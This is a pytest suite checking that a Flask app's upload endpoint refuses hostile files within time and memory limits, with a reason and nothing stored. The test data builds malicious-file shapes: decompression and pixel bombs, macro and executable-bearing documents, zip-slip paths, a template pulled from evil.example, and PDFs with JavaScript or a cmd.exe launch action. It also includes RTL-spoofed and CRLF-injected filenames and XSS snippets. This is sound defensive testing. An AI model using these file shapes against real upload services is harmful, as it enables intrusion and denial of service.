"""Files that mean harm, sent to the page: each refused in 2 s with its reason, nothing kept, no fault, no bloat."""

from __future__ import annotations

import ctypes
import html
import io
import random
import re
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from flask import Flask
from PIL import Image
from sqlalchemy import func, select

from app.adapters.filetype import MAX_BYTES, NAME_MAX
from app.adapters.storage import MemoryStorage
from app.extensions import db
from app.models import Attachment, AttachmentKind
from tests.adapters import test_filetype_images as pictures
from tests.adapters import test_filetype_pdf as pdfs
from tests.adapters import test_filetype_word as word
from tests.adapters.test_filetype_names import SVG, archive
from tests.support import people
from tests.support.browser import Browser

pytestmark = pytest.mark.one_database

SECONDS, MEGABYTES = 2.0, 200.0
REASON = re.compile(r'class="field-errors"[^>]*>(.*?)</div>', re.DOTALL)

Built = Callable[[], bytes]
PDF = pdfs.pdf()

HOSTILE: dict[str, tuple[str, Built, str]] = {
    "png of 4 billion pixels": ("图.png", lambda: pictures.raw_png(65_000, 65_000), "万像素"),
    "png of 16 million and some": ("图.png", lambda: pictures.raw_png(4001, 4000), "万像素"),
    "jpeg that claims 4 billion": ("图.jpg", lambda: pictures.resized_header(pictures.JPEG, 65_000, 65_000), "万像素"),
    "jpeg of 500 scans": (
        "图.jpg", lambda: pictures.PROGRESSIVE[:-2] + pictures.LAST_SCAN * 500 + b"\xff\xd9", "编码异常"),
    "jpeg of 4 million pieces": (
        "图.jpg", lambda: pictures.JPEG[:2] + b"\xff\xe0\x00\x02" * 4_000_000 + pictures.JPEG[2:], "编码异常"),
    "png of 1.5 million pieces": (
        "图.png", lambda: pictures.PNG[:33] + pictures.chunk(b"tEXt", b"") * 1_500_000 + pictures.PNG[33:], "编码异常"),
    "png cut in half": ("图.png", lambda: pictures.PNG[: len(pictures.PNG) // 2], "损坏"),
    "jpeg cut in half": ("图.jpg", lambda: pictures.JPEG[: len(pictures.JPEG) // 2], "损坏"),
    "jpeg of noise": ("图.jpg", lambda: b"\xff\xd8\xff" + random.Random(5).randbytes(100_000), "损坏"),
    "gif": ("图.jpg", lambda: b"GIF89a" + bytes(100), "GIF图片"),
    "svg as svg": ("图.svg", lambda: SVG, "不支持"),
    "svg as png": ("图.png", lambda: SVG, "SVG图片"),
    "docx of 200 MB": ("表.docx", lambda: word.docx({"word/bomb.xml": bytes(200 << 20)}, level=9), "过大"),
    "docx of 30 MB": ("表.docx", lambda: word.docx({"word/bomb.xml": bytes(30 << 20)}, level=9), "过大"),
    "docx of overlapping parts": ("表.docx", lambda: word.overlapping(50), "过大"),
    "docx of 12,000 parts": ("表.docx", lambda: word.docx({f"{n:060}": b"" for n in range(12_000)}), "过大"),
    "docx with entities": (
        "表.docx", lambda: word.docx({"word/document.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}), "定义"),
    "docx with a macro": ("表.docx", lambda: word.docx({"word/vbaProject.bin": b"x"}), "宏"),
    "docx with a program": ("表.docx", lambda: word.docx({"word/embeddings/setup.exe": b"MZ"}), "程序"),
    "docx that climbs out": ("表.docx", lambda: word.docx({"../../etc/cron.d/x": b"x"}), "路径"),
    "docx that calls home": (
        "表.docx", lambda: word.related("attachedTemplate", "https://evil.example/t.dotm"), "网络"),
    "docx with a script behind": ("表.docx", lambda: word.docx() + b"<script>", "混有其他内容"),
    "docx that is a pdf as well": ("表.docx", lambda: word.docx() + b"%PDF-1.4\n%%EOF", "混有其他内容"),
    "docx cut short": ("表.docx", lambda: word.docx()[:200], "损坏"),
    "docm": ("表.docm", word.docx, "宏"),
    "zip as docx": ("表.docx", archive, "压缩包"),
    "zip as zip": ("包.zip", archive, "不支持"),
    "doc with a macro": ("表.doc", lambda: word.doc("Macros"), "宏"),
    "doc with a password": ("表.doc", lambda: word.doc(flags=0x0100), "密码"),
    "doc that runs in a ring": ("表.doc", lambda: word.doc(directory_next=1), "损坏"),
    "pdf with a script": ("件.pdf", lambda: pdfs.pdf(b"/OpenAction" + pdfs.JAVASCRIPT), "脚本"),
    "pdf with a packed script": ("件.pdf", lambda: pdfs.pdf(body=pdfs.packed(b"5 0 " + pdfs.JAVASCRIPT)), "脚本"),
    "pdf that starts a program": ("件.pdf", lambda: pdfs.pdf(b"/AA<</O<</S/Launch/F(cmd.exe)>>>>"), "脚本"),
    "pdf with a password": ("件.pdf", lambda: pdfs.pdf(trailer=b"/Encrypt 8 0 R"), "密码"),
    "pdf that is a zip as well": ("件.pdf", lambda: PDF + pdfs.zipped(), "混有其他内容"),
    "pdf with a page behind": ("件.pdf", lambda: PDF + b"<script>alert(1)</script>", "混有其他内容"),
    "pdf that swells": ("件.pdf", lambda: pdfs.pdf(body=pdfs.packed(bytes(7 << 20)) * 20), "无法检查"),
    "pdf of one piece, 20 MB": ("件.pdf", lambda: b"%PDF-1.7\n" + b"/JavaScrip " * 1_900_000, ""),
    "pdf cut short": ("件.pdf", lambda: PDF[:-10], "损坏"),
    "page as pdf": ("件.pdf", lambda: b"<html><script>alert(1)</script></html>", "网页"),
    "program as pdf": ("件.pdf", lambda: b"MZ" + bytes(1000), "可执行程序"),
    "program as program": ("setup.exe", lambda: b"MZ" + bytes(1000), "不支持"),
    "program named twice": ("件.pdf.exe", lambda: PDF, "不支持"),
    "program written backwards": ("件\u202efdp.exe", lambda: PDF, "不支持"),
    "empty": ("件.pdf", lambda: b"", "空的"),
    "a byte too many": ("件.pdf", lambda: b"%PDF-1.4".ljust(MAX_BYTES + 1, b"\0"), "20 MB"),
    "name that climbs out": ("../../../etc/passwd", lambda: PDF, "没有扩展名"),
    "name of 255 bytes": ("a" * 255, lambda: PDF, "没有扩展名"),
    "no name": ("", lambda: PDF, "请先选择文件"),
}  # fmt: skip
"""File name, content, and what the refusal says of it."""

AS_PHOTO: dict[str, tuple[str, Built, str]] = {
    "pdf": ("照片.pdf", lambda: PDF, "JPG、PNG"),
    "svg": ("照片.jpg", lambda: SVG, "SVG图片"),
    "bomb": ("照片.png", lambda: pictures.raw_png(65_000, 65_000), "万像素"),
    "stamp": ("照片.jpg", lambda: people.picture(20, 20), "20×20"),
}


@pytest.fixture
def browser(app: Flask, sign_in: Callable[..., Browser]) -> Browser:
    return sign_in(people.expert(complete=False))


def status_of_process(name: str) -> float:
    """``VmRSS``, the memory in use, or ``VmHWM``, the most there was since the peak was last forgotten; in MB."""
    found = re.search(rf"{name}:\s+([0-9]+)", Path("/proc/self/status").read_text(encoding="ascii"))
    assert found is not None
    return int(found[1]) / 1024


def forget_peak() -> float:
    """Gives back what was freed, which would hide what is used anew; then measures from here."""
    ctypes.CDLL(None).malloc_trim(0)
    Path("/proc/self/clear_refs").write_text("5", encoding="ascii")
    return status_of_process("VmRSS")


def refused(browser: Browser, field: str, name: str, content: bytes) -> str:
    """The reason on the page, once time and memory are found bearable."""
    given: dict[str, object] = {field: (io.BytesIO(content), name)}
    if field == "file":
        given["kind"] = AttachmentKind.OTHER.value
    before, begun = forget_peak(), time.process_time()
    response = browser.submit("/my/files", given)
    seconds, megabytes = time.process_time() - begun, status_of_process("VmHWM") - before
    assert response.status_code == 422
    assert seconds < SECONDS
    assert megabytes < MEGABYTES
    found = REASON.search(response.text)
    assert found is not None
    return html.unescape(re.sub(r"<[^>]*>", "", found[1])).strip()


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_is_refused_with_its_reason(browser: Browser, storage: MemoryStorage, case: str) -> None:
    name, build, part = HOSTILE[case]
    reason = refused(browser, "file", name, build())
    assert part in reason
    assert reason.endswith("。")
    assert list(storage.digests()) == []
    assert db.session.scalar(select(func.count()).select_from(Attachment)) == 0


@pytest.mark.parametrize("case", AS_PHOTO)
def test_a_hostile_photo_is_refused_with_its_reason(browser: Browser, storage: MemoryStorage, case: str) -> None:
    name, build, part = AS_PHOTO[case]
    assert part in refused(browser, "photo", name, build())
    assert list(storage.digests()) == []
    assert db.session.scalar(select(func.count()).select_from(Attachment)) == 0


def test_the_corpus_is_large_enough() -> None:
    assert len(HOSTILE) + len(AS_PHOTO) >= 40


@pytest.mark.parametrize(
    "name", ["../../../etc/cron.d/x.png", "..\\..\\x.png", "a" * 251 + ".png", "证" * 83 + ".png", "x%0d%0aSet-Cookie: a=b.png"]
)  # fmt: skip
def test_a_good_file_under_a_hostile_name_is_kept_under_a_safe_one(browser: Browser, name: str) -> None:
    out = io.BytesIO()
    Image.new("RGB", (20, 20), "red").save(out, "PNG")
    given = {"kind": AttachmentKind.OTHER.value, "file": (io.BytesIO(out.getvalue()), name)}
    assert browser.submit("/my/files", given).status_code == 302
    kept = db.session.scalars(select(Attachment)).one()
    assert re.fullmatch(r"[^/\\\r\n:]+\.png", kept.filename)
    assert len(kept.filename) <= NAME_MAX
    served = browser.get(f"/file/{kept.id}")
    assert "Set-Cookie: a" not in str(served.headers)
    assert "\n" not in served.headers.get("Content-Disposition", "")


def test_a_request_beyond_all_bounds_is_refused_before_it_is_read(browser: Browser, storage: MemoryStorage) -> None:
    content = io.BytesIO(bytes(22 << 20))
    response = browser.submit("/my/files", {"kind": AttachmentKind.OTHER.value, "file": (content, "件.pdf")})
    assert response.status_code == 413
    assert "超过了允许的大小，没有保存" in response.text
    assert list(storage.digests()) == []
